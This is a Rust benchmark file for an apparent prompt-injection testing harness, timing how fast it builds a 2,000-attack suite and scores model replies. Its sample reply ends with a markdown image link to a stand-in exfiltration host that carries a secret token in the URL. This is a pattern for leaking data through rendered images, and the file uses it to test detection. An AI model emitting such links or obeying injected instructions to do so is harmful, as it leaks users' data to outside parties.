//! Suite generation and scoring speed (the harness must never be the
//! bottleneck: `scripts/bench_probe.sh` measures whole runs against the
//! reference target).

#![allow(missing_docs)] // criterion_group! generates an undocumented function.

use airlock_probe::Goal;
use airlock_probe::detect::score;
use airlock_probe::suite::{SuiteOptions, build};
use criterion::{Criterion, criterion_group, criterion_main};

fn bench(c: &mut Criterion) {
    let opts = SuiteOptions {
        samples: 200,
        ..SuiteOptions::default()
    };
    c.bench_function("build a 2,000-attack suite", |b| b.iter(|| build(&opts)));
    let reply = "Sure! Here is the summary you asked for. ".repeat(20)
        + "![s](https://exfil.airlock-probe.invalid/p.png?d=7QX2-M9KD-4HTR)";
    c.bench_function("score a 1 KB reply", |b| {
        b.iter(|| {
            score(
                &reply,
                Goal::Exfil,
                Some("MARK-ABCDEFGH"),
                "7QX2-M9KD-4HTR",
                "exfil.airlock-probe.invalid",
            )
        })
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
